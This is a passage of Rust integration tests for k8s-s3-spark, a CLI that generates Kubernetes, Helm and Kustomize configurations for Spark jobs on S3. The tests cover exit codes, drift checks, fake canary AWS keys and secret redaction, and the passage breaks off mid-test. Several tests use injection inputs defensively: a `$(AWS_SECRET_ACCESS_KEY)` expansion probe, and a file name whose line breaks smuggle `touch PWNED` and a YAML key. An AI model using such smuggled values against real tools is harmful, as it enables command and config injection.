//! The real binary: help, exit codes, messages, nothing written on error, determinism, secrets.

use std::fs;
use std::path::Path;

use crate::harness::{EXAMPLE, code, run, run_env, text, tool};

#[test]
fn help_describes_every_command() {
    let top = run(&["--help"]);
    assert_eq!(code(&top), 0);
    for command in [
        "render",
        "chart",
        "kustomize",
        "operator",
        "validate",
        "schema",
        "init",
        "versions",
        "doctor",
        "build-plan",
        "check-s3",
    ] {
        assert!(
            text(&top.stdout).contains(command),
            "top-level help lists {command}"
        );
        let help = run(&[command, "--help"]);
        assert_eq!(code(&help), 0, "{command} --help");
        assert!(
            text(&help.stdout).contains("Usage: k8s-s3-spark"),
            "{command} --help shows usage"
        );
    }
    assert!(text(&top.stdout).contains("Exit codes"));
    assert_eq!(code(&run(&["--version"])), 0);
}

#[test]
fn unknown_flags_are_bad_input() {
    let o = run(&["render", EXAMPLE, "--bogus"]);
    assert_eq!(code(&o), 2);
    assert!(o.stdout.is_empty());
}

#[test]
fn render_is_deterministic_and_matches_the_library() {
    let a = run(&["render", EXAMPLE]);
    let b = run(&["render", EXAMPLE]);
    assert_eq!(code(&a), 0, "{}", text(&a.stderr));
    assert_eq!(a.stdout, b.stdout, "two runs are byte-identical");
    assert!(a.stderr.is_empty());
    let config = k8s_s3_spark::config::load(Path::new(EXAMPLE)).unwrap();
    let manifests = k8s_s3_spark::pipeline::manifests(config.resolve(None).unwrap(), None).unwrap();
    assert_eq!(
        text(&a.stdout),
        k8s_s3_spark::emit::plain::stream(&manifests)
    );
    // No Secret unless asked for: the Job references it.
    assert!(!text(&a.stdout).contains("kind: Secret"));
}

#[test]
fn invalid_config_exits_2_with_positions_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let o = run(&[
        "render",
        "tests/invalid/memory-invalid.yaml",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 2);
    assert!(o.stdout.is_empty());
    let err = text(&o.stderr);
    assert!(
        err.contains(
            "tests/invalid/memory-invalid.yaml:12:5: error[KS108] in `spec.driver.memory`"
        ),
        "{err}"
    );
    assert!(err.contains("help: "), "{err}");
    assert!(!out.exists(), "nothing is written on error");
    assert_eq!(
        fs::read_dir(dir.path()).unwrap().count(),
        0,
        "no temporary folder is left"
    );
}

#[test]
fn missing_file_and_unknown_environment_are_bad_input() {
    let o = run(&["render", "no/such/spark-job.yaml"]);
    assert_eq!(code(&o), 2);
    assert!(text(&o.stderr).contains("cannot read no/such/spark-job.yaml"));
    let o = run(&["render", EXAMPLE, "--env", "staging"]);
    assert_eq!(code(&o), 2);
    assert!(
        text(&o.stderr).contains("use one of: dev, prod"),
        "{}",
        text(&o.stderr)
    );
}

#[test]
fn environments_change_what_they_override() {
    let base = text(&run(&["render", EXAMPLE]).stdout);
    let prod = text(&run(&["render", EXAMPLE, "--env", "prod"]).stdout);
    assert!(base.contains("namespace: spark-test") && !base.contains("spark-prod"));
    assert!(prod.contains("namespace: spark-prod") && prod.contains("spark.executor.instances=4"));
}

#[test]
fn out_writes_files_checks_drift_and_keeps_user_files() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("manifests");
    let out_s = out.to_str().unwrap();
    assert_eq!(code(&run(&["render", EXAMPLE, "--out", out_s])), 0);
    let mut files: Vec<String> = fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    files.sort();
    assert_eq!(
        files,
        [
            ".k8s-s3-spark-generated",
            "01-serviceaccount.yaml",
            "02-role.yaml",
            "03-rolebinding.yaml",
            "06-configmap.yaml",
            "07-job.yaml"
        ]
    );
    fs::write(out.join("README.md"), "mine").unwrap();
    let check = run(&["render", EXAMPLE, "--out", out_s, "--check"]);
    assert_eq!(code(&check), 0, "{}", text(&check.stderr));

    let drift = run(&[
        "render", EXAMPLE, "--env", "prod", "--out", out_s, "--check",
    ]);
    assert_eq!(code(&drift), 1);
    let diff = text(&drift.stdout);
    assert!(
        diff.contains("-  namespace: spark-test") && diff.contains("+  namespace: spark-prod"),
        "{diff}"
    );
    assert!(
        !diff.contains("README.md"),
        "files we do not own are not reported"
    );

    assert_eq!(
        code(&run(&["render", EXAMPLE, "--env", "prod", "--out", out_s])),
        0
    );
    assert_eq!(fs::read_to_string(out.join("README.md")).unwrap(), "mine");
    assert!(
        fs::read_to_string(out.join("07-job.yaml"))
            .unwrap()
            .contains("spark-prod")
    );
}

#[test]
fn refuses_to_overwrite_a_folder_it_did_not_generate() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("02-role.yaml"), "user's own role").unwrap();
    let o = run(&["render", EXAMPLE, "--out", dir.path().to_str().unwrap()]);
    assert_eq!(code(&o), 2);
    assert!(
        text(&o.stderr).contains("did not generate"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(
        fs::read_to_string(dir.path().join("02-role.yaml")).unwrap(),
        "user's own role"
    );
}

#[test]
fn secret_values_only_where_asked_for() {
    let canary_id = "AKIACANARY7Q3Z9XW2LM";
    let canary_secret = "canary/Secret+Value9f3b2c1d0e8a7";
    let dir = tempfile::tempdir().unwrap();
    let creds = dir.path().join("credentials");
    fs::write(
        &creds,
        format!("[ci]\naws_access_key_id = {canary_id}\naws_secret_access_key = {canary_secret}\n"),
    )
    .unwrap();
    let creds_s = creds.to_str().unwrap();

    let o = run(&[
        "render",
        EXAMPLE,
        "--aws-profile",
        "ci",
        "--aws-credentials",
        creds_s,
    ]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let out = text(&o.stdout);
    use base64::Engine as _;
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    assert!(
        out.contains("kind: Secret")
            && out.contains(&b64(canary_secret))
            && out.contains(&b64(canary_id))
    );
    assert!(
        !out.contains(canary_secret),
        "values are base64 in the Secret, never plain"
    );
    assert!(o.stderr.is_empty());

    // In --out, the Secret file is 0600.
    let tree = dir.path().join("out");
    assert_eq!(
        code(&run(&[
            "render",
            EXAMPLE,
            "--aws-profile",
            "ci",
            "--aws-credentials",
            creds_s,
            "--out",
            tree.to_str().unwrap()
        ])),
        0
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = fs::metadata(tree.join("04-secret.yaml"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, 0o600);
    }

    // Errors never show values: a missing profile, the wrong credentials kind, --check diffs.
    let missing = run(&[
        "render",
        EXAMPLE,
        "--aws-profile",
        "prod",
        "--aws-credentials",
        creds_s,
    ]);
    assert_eq!(code(&missing), 2);
    let anonymous = run(&[
        "render",
        "examples/irsa/spark-job.yaml",
        "--aws-profile",
        "ci",
        "--aws-credentials",
        creds_s,
    ]);
    assert_eq!(code(&anonymous), 2);
    fs::write(
        &creds,
        format!(
            "[ci]\naws_access_key_id = {canary_id}\naws_secret_access_key = other{canary_secret}\n"
        ),
    )
    .unwrap();
    let drift = run(&[
        "render",
        EXAMPLE,
        "--aws-profile",
        "ci",
        "--aws-credentials",
        creds_s,
        "--out",
        tree.to_str().unwrap(),
        "--check",
    ]);
    assert_eq!(code(&drift), 1);
    for o in [&missing, &anonymous, &drift] {
        let all = text(&o.stdout) + &text(&o.stderr);
        for needle in [
            canary_id.to_owned(),
            canary_secret.to_owned(),
            b64(canary_secret),
            b64(canary_id),
        ] {
            assert!(!all.contains(&needle), "a secret value leaked: {all}");
        }
    }
    assert!(text(&drift.stdout).contains("contents not shown"));

    // --aws-env reads the standard variables.
    let env = run_env(
        &["render", EXAMPLE, "--aws-env"],
        &[
            ("AWS_ACCESS_KEY_ID", canary_id),
            ("AWS_SECRET_ACCESS_KEY", canary_secret),
        ],
    );
    assert_eq!(code(&env), 0);
    assert!(text(&env.stdout).contains(&b64(canary_secret)));
    let no_env = run(&["render", EXAMPLE, "--aws-env"]);
    assert_eq!(code(&no_env), 2);
    assert!(text(&no_env.stderr).contains("AWS_ACCESS_KEY_ID is not set"));
}

#[test]
fn validate_takes_files_and_folders_and_reports_every_bad_file() {
    let ok = run(&["validate", "examples"]);
    assert_eq!(code(&ok), 0, "{}", text(&ok.stderr));
    assert_eq!(
        text(&ok.stdout)
            .lines()
            .filter(|l| l.starts_with("ok: "))
            .count(),
        5,
        "five example configs found"
    );

    let mixed = run(&[
        "validate",
        "examples/minio/spark-job.yaml",
        "tests/invalid/executors-zero.yaml",
        "tests/invalid/image-latest.yaml",
    ]);
    assert_eq!(code(&mixed), 2);
    assert!(text(&mixed.stdout).contains("ok: examples/minio/spark-job.yaml"));
    let err = text(&mixed.stderr);
    assert!(
        err.contains("executors-zero.yaml:12:5") && err.contains("image-latest.yaml:9:3"),
        "{err}"
    );
    assert!(err.contains("2 of 3 config files are invalid"));

    let empty = tempfile::tempdir().unwrap();
    assert_eq!(code(&run(&["validate", empty.path().to_str().unwrap()])), 2);
}

#[test]
fn validate_output_does_not_depend_on_threads() {
    // The examples and every bad fixture: good and bad files interleaved.
    let args = |jobs: &'static str| ["validate", "-j", jobs, "examples", "tests/invalid"];
    let one = run(&args("1"));
    for jobs in ["2", "7"] {
        let many = run(&args(jobs));
        assert_eq!(code(&many), code(&one));
        assert_eq!(text(&many.stdout), text(&one.stdout), "-j {jobs}");
        assert_eq!(text(&many.stderr), text(&one.stderr), "-j {jobs}");
    }
    assert_eq!(code(&one), 2);
    assert_eq!(code(&run(&["validate", "-j", "0", "examples"])), 2);
}

#[test]
fn schema_prints_the_committed_schema() {
    let o = run(&["schema"]);
    assert_eq!(code(&o), 0);
    assert_eq!(
        text(&o.stdout),
        fs::read_to_string("schema/spark-job.schema.json").unwrap()
    );
}

#[test]
fn init_writes_a_valid_starter_and_never_clobbers() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_str().unwrap();
    assert_eq!(code(&run(&["init", d])), 0);
    let file = dir.path().join("spark-job.yaml");
    assert_eq!(code(&run(&["validate", file.to_str().unwrap()])), 0);
    let text = fs::read_to_string(&file).unwrap();
    // Editors find the schema through the modeline, and it is written beside the config.
    assert!(text.starts_with("# yaml-language-server: $schema=spark-job.schema.json\n"));
    assert_eq!(
        fs::read_to_string(dir.path().join("spark-job.schema.json")).unwrap(),
        fs::read_to_string("schema/spark-job.schema.json").unwrap()
    );
    assert!(
        !text.contains("seed"),
        "the starter is the user's job, not the how-to's"
    );
    fs::write(&file, "edited").unwrap();
    let again = run(&["init", d]);
    assert_eq!(code(&again), 2);
    assert_eq!(fs::read_to_string(&file).unwrap(), "edited");
}

#[test]
fn init_takes_the_options_people_expect() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("events");
    let o = run(&[
        "init",
        d.to_str().unwrap(),
        "--type",
        "scala",
        "--main-class",
        "com.acme.Events",
        "--endpoint",
        "http://minio.storage.svc:9000",
        "--path-style",
        "--credentials",
        "web-identity",
        "--role-arn",
        "arn:aws:iam::123456789012:role/events",
        "--schema",
        "https://example.com/spark-job.schema.json",
    ]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let file = d.join("spark-job.yaml");
    let text_written = fs::read_to_string(&file).unwrap();
    for expected in [
        "name: events\n",
        "type: Scala\n",
        "mainClass: com.acme.Events\n",
        "endpoint: http://minio.storage.svc:9000\n",
        "pathStyleAccess: true\n",
        "roleArn: arn:aws:iam::123456789012:role/events\n",
        "$schema=https://example.com/spark-job.schema.json\n",
    ] {
        assert!(
            text_written.contains(expected),
            "{expected}:\n{text_written}"
        );
    }
    assert!(
        !d.join("spark-job.schema.json").exists(),
        "a URL needs no local copy"
    );
    let valid = run(&["validate", file.to_str().unwrap()]);
    assert_eq!(code(&valid), 0, "{}", text(&valid.stderr));

    // Options that make an invalid config are refused by field, and nothing is written.
    let bad = dir.path().join("bad");
    let o = run(&["init", bad.to_str().unwrap(), "--name", "Bad_Name"]);
    assert_eq!(code(&o), 2);
    assert!(
        text(&o.stderr).contains("metadata.name"),
        "{}",
        text(&o.stderr)
    );
    assert!(!bad.exists());
    let o = run(&[
        "init",
        bad.to_str().unwrap(),
        "--credentials",
        "web-identity",
    ]);
    assert_eq!(code(&o), 2, "--role-arn is required");
}

#[test]
fn user_text_cannot_expand_pod_environment_variables() {
    let dir = tempfile::tempdir().unwrap();
    let config = fs::read_to_string(EXAMPLE).unwrap().replace(
        "  arguments:\n",
        "  arguments:\n    - $(AWS_SECRET_ACCESS_KEY)\n    - $(K8S_S3_SPARK_IMAGE)\n",
    );
    let file = dir.path().join("spark-job.yaml");
    fs::write(&file, config).unwrap();
    let o = run(&["render", file.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let out = text(&o.stdout);
    assert!(
        // One kubelet reads them (the Job's: the driver runs in its pod), so `$` is doubled once.
        out.contains("- $$(AWS_SECRET_ACCESS_KEY)") && out.contains("- $$(K8S_S3_SPARK_IMAGE)"),
        "{out}"
    );
}

#[test]
fn chart_writes_checks_and_reports_drift() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("simple-read");
    let out_s = out.to_str().unwrap();
    let o = run(&["chart", EXAMPLE, "--out", out_s]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    for file in [
        "Chart.yaml",
        "values.yaml",
        "values.schema.json",
        "README.md",
        ".helmignore",
        "templates/_helpers.tpl",
        "templates/NOTES.txt",
        "templates/job.yaml",
        "templates/tests/test-s3-access.yaml",
    ] {
        assert!(out.join(file).is_file(), "{file} is generated");
    }
    assert_eq!(
        code(&run(&["chart", EXAMPLE, "--out", out_s, "--check"])),
        0
    );
    let values = out.join("values.yaml");
    let edited = fs::read_to_string(&values)
        .unwrap()
        .replace("instances: 1", "instances: 5");
    fs::write(&values, edited).unwrap();
    let drift = run(&["chart", EXAMPLE, "--out", out_s, "--check"]);
    assert_eq!(code(&drift), 1);
    assert!(
        text(&drift.stdout).contains("-  instances: 5")
            && text(&drift.stdout).contains("+  instances: 1")
    );
    assert_eq!(code(&run(&["chart", EXAMPLE])), 2, "--out is required");
}

#[test]
fn every_form_merges_pod_templates_and_says_what_it_overrides() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("chart");
    let job = "tests/pod-template/spark-job.yaml";
    let o = run(&["chart", job, "--out", out.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("warning[KS127]"), "chart");
    let values = std::fs::read_to_string(out.join("values.yaml")).unwrap();
    assert!(values.contains("fluent/fluent-bit:3.1.9"), "{values}");
    for form in ["render", "operator"] {
        let o = run(&[form, job]);
        assert_eq!(code(&o), 0, "{form}: {}", text(&o.stderr));
        assert!(
            text(&o.stdout).contains("fluent/fluent-bit:3.1.9"),
            "{form}"
        );
        assert!(text(&o.stderr).contains("warning[KS127]"), "{form}");
    }
}

#[test]
fn kustomize_check_ignores_files_it_does_not_own() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("gitops");
    let out_s = out.to_str().unwrap();
    assert_eq!(code(&run(&["kustomize", EXAMPLE, "--out", out_s])), 0);
    for file in [
        "base/kustomization.yaml",
        "base/kustomizeconfig.yaml",
        "base/job.yaml",
        "overlays/prod/kustomization.yaml",
        "overlays/prod/job.patch.yaml",
        ".gitignore",
    ] {
        assert!(out.join(file).is_file(), "{file} is generated");
    }
    // The example references an existing Secret, so no tree it writes needs a key file.
    assert!(
        !out.join("overlays/dev/aws-credentials.env.example")
            .exists()
    );
    // A user's own overlay and key file are not ours: kept, and not reported as drift.
    fs::create_dir_all(out.join("overlays/canary")).unwrap();
    fs::write(
        out.join("overlays/canary/kustomization.yaml"),
        "resources: [../prod]\n",
    )
    .unwrap();
    fs::write(
        out.join("overlays/prod/aws-credentials.env"),
        "AWS_ACCESS_KEY_ID=x\n",
    )
    .unwrap();
    let check = run(&["kustomize", EXAMPLE, "--out", out_s, "--check"]);
    assert_eq!(
        code(&check),
        0,
        "{}{}",
        text(&check.stdout),
        text(&check.stderr)
    );
    fs::write(out.join("overlays/prod/job.patch.yaml"), "[]\n").unwrap();
    let drift = run(&["kustomize", EXAMPLE, "--out", out_s, "--check"]);
    assert_eq!(code(&drift), 1);
    assert!(text(&drift.stdout).contains("changed: ") && !text(&drift.stdout).contains("canary"));
    assert_eq!(code(&run(&["kustomize", EXAMPLE, "--out", out_s])), 0);
    assert!(out.join("overlays/canary/kustomization.yaml").is_file());
    assert_eq!(
        fs::read_to_string(out.join("overlays/prod/aws-credentials.env")).unwrap(),
        "AWS_ACCESS_KEY_ID=x\n"
    );
}

#[test]
fn an_s3_compatible_endpoint_without_path_style_gets_a_warning_not_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let config = fs::read_to_string(EXAMPLE).unwrap().replace(
        "    region: us-east-1\n",
        "    endpoint: http://minio.storage.svc:9000\n",
    );
    let file = dir.path().join("spark-job.yaml");
    fs::write(&file, &config).unwrap();
    let f = file.to_str().unwrap();
    let warning = "warning[KS114] in `spec.s3.endpoint`";
    let v = run(&["validate", f]);
    assert_eq!(code(&v), 0, "{}", text(&v.stderr));
    assert!(text(&v.stdout).contains(warning), "{}", text(&v.stdout));
    assert!(text(&v.stdout).contains("pathStyleAccess: true"));
    let r = run(&["render", f]);
    assert_eq!(code(&r), 0);
    assert!(text(&r.stderr).contains(warning) && !text(&r.stdout).contains(warning));
    // The fix it gives is accepted without a word.
    fs::write(
        &file,
        config.replace(
            "    endpoint: http://minio.storage.svc:9000\n",
            "    endpoint: http://minio.storage.svc:9000\n    pathStyleAccess: true\n",
        ),
    )
    .unwrap();
    let fixed = run(&["render", f]);
    assert_eq!(code(&fixed), 0);
    assert!(fixed.stderr.is_empty(), "{}", text(&fixed.stderr));
}

#[test]
fn an_endpoint_without_a_region_on_the_sdk_v2_gets_a_warning_that_the_fix_silences() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("spark-job.yaml");
    let f = file.to_str().unwrap();
    let config = |spark: &str, s3: &str| {
        fs::read_to_string(EXAMPLE)
            .unwrap()
            .replace("sparkVersion: 3.5.3", &format!("sparkVersion: {spark}"))
            .replace("    region: us-east-1\n", s3)
    };
    let endpoint = "    endpoint: http://minio.storage.svc:9000\n    pathStyleAccess: true\n";
    let warning = "warning[KS121] in `spec.s3.endpoint`";
    fs::write(&file, config("4.1.1", endpoint)).unwrap();
    let r = run(&["render", f]);
    assert_eq!(code(&r), 0, "{}", text(&r.stderr));
    assert!(text(&r.stderr).contains(warning), "{}", text(&r.stderr));
    assert!(text(&r.stderr).contains("us-east-2") && text(&r.stderr).contains("add `region:`"));
    // SDK v1 (Spark 3.5's Hadoop 3.3.4) signs for us-east-1: nothing to say.
    fs::write(&file, config("3.5.3", endpoint)).unwrap();
    let old = run(&["render", f]);
    assert_eq!(code(&old), 0);
    assert!(old.stderr.is_empty(), "{}", text(&old.stderr));
    // The fix it gives is accepted without a word, and reaches S3A.
    fs::write(
        &file,
        config("4.1.1", &format!("{endpoint}    region: us-east-1\n")),
    )
    .unwrap();
    let fixed = run(&["render", f]);
    assert_eq!(code(&fixed), 0);
    assert!(fixed.stderr.is_empty(), "{}", text(&fixed.stderr));
    assert!(text(&fixed.stdout).contains("spark.hadoop.fs.s3a.endpoint.region=us-east-1"));
}

#[test]
fn validate_reports_json_and_sarif_with_the_same_verdicts_and_exit_code() {
    let bad = "tests/invalid/pod-identity-sdk-v1.yaml";
    let args = |format: &str| run(&["validate", "--format", format, bad, EXAMPLE]);
    let plain = run(&["validate", bad, EXAMPLE]);
    let json = args("json");
    let sarif = args("sarif");
    for o in [&plain, &json, &sarif] {
        assert_eq!(code(o), 2, "{}", text(&o.stderr));
    }
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(
        (v["valid"].as_u64(), v["invalid"].as_u64()),
        (Some(1), Some(1))
    );
    assert_eq!(v["files"][0]["file"], bad);
    assert_eq!(v["files"][0]["findings"][0]["code"], "KS122");
    assert_eq!(v["files"][0]["findings"][0]["position"]["line"], 14);
    assert_eq!(v["files"][1]["valid"], true);
    assert_eq!(v["files"][1]["environments"][0], "dev");
    let s: serde_json::Value = serde_json::from_slice(&sarif.stdout).unwrap();
    assert_eq!(s["version"], "2.1.0");
    let results = s["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results.len(), 1, "{results:?}");
    assert_eq!(results[0]["ruleId"], "KS122");
    let region = &results[0]["locations"][0]["physicalLocation"]["region"];
    assert_eq!(
        (region["startLine"].as_u64(), region["startColumn"].as_u64()),
        (Some(14), Some(7))
    );
    // The text format's line says the same place.
    assert!(text(&plain.stderr).contains(&format!("{bad}:14:7: error[KS122]")));
    // Output is deterministic.
    assert_eq!(args("sarif").stdout, sarif.stdout);
}

#[test]
fn completions_and_man_pages_come_from_the_command_definitions() {
    for (shell, marker) in [
        ("bash", "-o default k8s-s3-spark\n"),
        ("zsh", "#compdef k8s-s3-spark"),
        ("fish", "complete -c k8s-s3-spark"),
    ] {
        let o = run(&["completions", shell]);
        assert_eq!(code(&o), 0);
        let script = text(&o.stdout);
        assert!(script.contains(marker), "{shell}: {script}");
        assert!(
            script.contains("check-cluster") && script.contains("sarif"),
            "{shell}"
        );
    }
    let page = text(&run(&["man"]).stdout);
    assert!(
        page.starts_with(".ie") && page.contains(".TH k8s-s3-spark 1"),
        "{page}"
    );
    assert!(page.contains("k8s\\-s3\\-spark\\-validate(1)"), "{page}");
    let validate = text(&run(&["man", "validate"]).stdout);
    assert!(
        validate.contains(".TH k8s-s3-spark-validate 1"),
        "{validate}"
    );
    assert!(validate.contains("sarif"), "{validate}");
    let unknown = run(&["man", "nope"]);
    assert_eq!(code(&unknown), 2);
    assert!(text(&unknown.stderr).contains("help: use one of: render, chart"));
}

#[test]
fn the_help_for_credential_settings_leads_to_an_accepted_config() {
    // What CREDENTIAL_SETTING_HELP tells a user to write instead of a per-bucket key.
    let dir = tempfile::tempdir().unwrap();
    let config = fs::read_to_string(EXAMPLE).unwrap().replacen(
        "  driver:\n",
        "  sparkConf:\n    spark.kubernetes.driver.secrets.s3-jceks: /etc/hadoop-credentials\n    spark.kubernetes.executor.secrets.s3-jceks: /etc/hadoop-credentials\n  hadoopConf:\n    hadoop.security.credential.provider.path: jceks://file/etc/hadoop-credentials/s3.jceks\n  driver:\n",
        1,
    );
    let file = dir.path().join("spark-job.yaml");
    fs::write(&file, config).unwrap();
    let o = run(&["validate", file.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert!(
        k8s_s3_spark::redact::CREDENTIAL_SETTING_HELP
            .contains("spark.kubernetes.driver.secrets.NAME")
    );
}

#[test]
fn errors_that_are_not_findings_print_their_help_the_same_way() {
    let o = run(&["render", EXAMPLE, "--env", "nope"]);
    assert_eq!(code(&o), 2);
    assert_eq!(
        text(&o.stderr),
        format!(
            "{EXAMPLE}: no environment \"nope\" in spec.environments\n  help: use one of: dev, prod\n"
        )
    );
}

#[test]
fn check_cluster_without_a_kube_context_says_how_to_give_one() {
    let o = run_env(
        &["check-cluster", "examples/amazon-reviews/spark-job.yaml"],
        &[("KUBECONFIG", "/nonexistent/kubeconfig")],
    );
    assert_eq!(code(&o), 1);
    let err = text(&o.stderr);
    assert!(err.starts_with("cannot read the kube context"), "{err}");
    assert!(err.contains("\n  help: point $KUBECONFIG"), "{err}");
}

#[test]
fn check_cluster_on_an_unreachable_server_names_it_in_text_and_json() {
    let dir = tempfile::tempdir().unwrap();
    // Port 1 on the loopback: nothing listens, the connection is refused at once.
    let kubeconfig = dir.path().join("config");
    fs::write(
        &kubeconfig,
        "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster: {server: \"https://127.0.0.1:1\"}\ncontexts:\n- name: c\n  context: {cluster: c, user: u}\ncurrent-context: c\nusers:\n- name: u\n  user: {token: t}\n",
    )
    .unwrap();
    let env = [("KUBECONFIG", kubeconfig.to_str().unwrap())];
    let o = run_env(&["check-cluster", EXAMPLE], &env);
    assert_eq!(code(&o), 1);
    assert!(
        text(&o.stderr).starts_with("cannot reach the API server at https://127.0.0.1:1/: "),
        "{}",
        text(&o.stderr)
    );
    let o = run_env(&["check-cluster", EXAMPLE, "--format", "json"], &env);
    assert_eq!(code(&o), 1);
    let json: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON on stdout");
    assert!(
        json["error"]
            .as_str()
            .unwrap()
            .contains("https://127.0.0.1:1/"),
        "{json}"
    );
    assert!(json["help"].as_str().unwrap().contains("readyz"), "{json}");
}

#[test]
fn options_that_do_not_apply_are_said_and_missing_files_are_named() {
    let o = run(&["render", EXAMPLE, "--once"]);
    assert_eq!(code(&o), 0);
    assert!(
        text(&o.stderr).contains("warning: --once has no effect"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(o.stdout, run(&["render", EXAMPLE]).stdout);
    let o = run(&[
        "render",
        "examples/nightly-summary/spark-job.yaml",
        "--once",
    ]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("kind: Job\n"));

    // build-plan --dockerfile: the COPY of an application file that is not beside the config.
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("spark-job.yaml");
    fs::copy(EXAMPLE, &config).unwrap();
    let dockerfile = dir.path().join("Dockerfile");
    let args = [
        "build-plan",
        config.to_str().unwrap(),
        "--dockerfile",
        dockerfile.to_str().unwrap(),
    ];
    let o = run(&args);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("warning: the Dockerfile copies simple_read.py from"),
        "{}",
        text(&o.stderr)
    );
    fs::remove_file(&dockerfile).unwrap();
    fs::write(dir.path().join("simple_read.py"), "print(1)\n").unwrap();
    let o = run(&args);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert!(!text(&o.stderr).contains("warning"), "{}", text(&o.stderr));
}

#[cfg(unix)]
#[test]
fn output_folders_keep_their_mode_and_special_files_are_refused_not_read() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("gen");
    let example = fs::canonicalize(EXAMPLE).unwrap();
    let example = example.to_str().unwrap();
    // `COMMAND EXAMPLE --out DIR EXTRA...`
    let into = |command: &str, dir: &Path, extra: &[&str]| {
        let mut args = vec![command, example, "--out", dir.to_str().unwrap()];
        args.extend(extra);
        run(&args)
    };
    let render = |extra: &[&str]| into("render", &out, extra);
    assert_eq!(code(&render(&[])), 0);
    fs::set_permissions(&out, fs::Permissions::from_mode(0o700)).unwrap();
    assert_eq!(code(&render(&["--force"])), 0);
    let mode = fs::metadata(&out).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700, "the user's folder mode is kept");

    // A FIFO of the user's in the folder: refused at once, not copied (which would wait).
    let fifo = out.join("user-fifo");
    if std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .is_ok_and(|s| s.success())
    {
        let o = render(&["--force"]);
        assert_eq!(code(&o), 2, "{}", text(&o.stderr));
        assert!(
            text(&o.stderr).contains("not a regular file"),
            "{}",
            text(&o.stderr)
        );
        fs::remove_file(&fifo).unwrap();
    }
    // A credentials file that is a device is refused, not read.
    let o = run(&[
        "render",
        example,
        "--aws-profile",
        "default",
        "--aws-credentials",
        "/dev/zero",
    ]);
    assert_eq!(code(&o), 2, "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("not a regular file"),
        "{}",
        text(&o.stderr)
    );

    // The working folder cannot be replaced; `gen/./` is `gen`.
    let o = tool()
        .args(["render", example, "--out", "."])
        .current_dir(&out)
        .output()
        .unwrap();
    assert_eq!(code(&o), 2, "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("the folder you are in"),
        "{}",
        text(&o.stderr)
    );
    // A link where a generated folder belongs is neither read through (--check) nor written
    // through (--force replaces the link; without it, the link is named as the user's).
    let chart = dir.path().join("chart");
    let elsewhere = dir.path().join("elsewhere");
    let chart_args = |extra: &[&str]| into("chart", &chart, extra);
    assert_eq!(code(&chart_args(&[])), 0);
    fs::rename(chart.join("templates"), &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, chart.join("templates")).unwrap();
    let o = chart_args(&["--check"]);
    assert_eq!(code(&o), 1, "{}", text(&o.stdout));
    assert!(
        text(&o.stdout).contains("not followed): ")
            && text(&o.stdout).matches("templates").count() == 1,
        "{}",
        text(&o.stdout)
    );
    assert_eq!(code(&chart_args(&[])), 2);
    let before = fs::read_dir(&elsewhere).unwrap().count();
    assert_eq!(code(&chart_args(&["--force"])), 0);
    assert!(
        fs::symlink_metadata(chart.join("templates"))
            .unwrap()
            .is_dir()
    );
    assert_eq!(
        fs::read_dir(&elsewhere).unwrap().count(),
        before,
        "nothing written outside"
    );

    let dotted = format!("{}/./", out.display());
    assert_eq!(
        code(&run(&["render", example, "--out", &dotted, "--force"])),
        0
    );
}

#[test]
fn a_file_name_with_line_breaks_is_quoted_wherever_it_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("a\ndeprecated: true\ntouch PWNED\n#.yaml");
    fs::copy(EXAMPLE, &config).unwrap();
    let config = config.to_str().unwrap();
    let chart = dir.path().join("chart");
    let o = run(&["chart", config, "--out", chart.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let tree = dir.path().join("tree");
    let o = run(&["kustomize", config, "--out", tree.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let plan = run(&["build-plan", config]);
    assert_eq!(code(&plan), 0, "{}", text(&plan.stderr));
    for (name, written) in [
        (
            "Chart.yaml",
            fs::read_to_string(chart.join("Chart.yaml")).unwrap(),
        ),
        (
            "base/kustomization.yaml",
            fs::read_to_string(tree.join("base/kustomization.yaml")).unwrap(),
        ),
